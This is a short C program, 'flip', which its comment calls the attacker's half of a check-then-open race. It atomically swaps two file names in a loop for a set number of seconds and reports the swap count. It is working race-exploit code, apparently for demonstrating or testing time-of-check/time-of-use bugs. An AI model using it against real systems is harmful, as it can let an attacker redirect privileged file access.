/* The attacker's half of a check-then-open race: swaps two names in the
 * current directory (renameat2 RENAME_EXCHANGE, atomic) as fast as it
 * can, for the given number of seconds.
 *
 *   flip NAME1 NAME2 SECONDS
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fputs("usage: flip NAME1 NAME2 SECONDS\n", stderr);
        return 2;
    }
    time_t end = time(NULL) + atoi(argv[3]);
    unsigned long swaps = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 1000; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
                perror("renameat2");
                return 1;
            }
        }
        swaps += 1000;
    }
    printf("%lu\n", swaps);
    return 0;
}
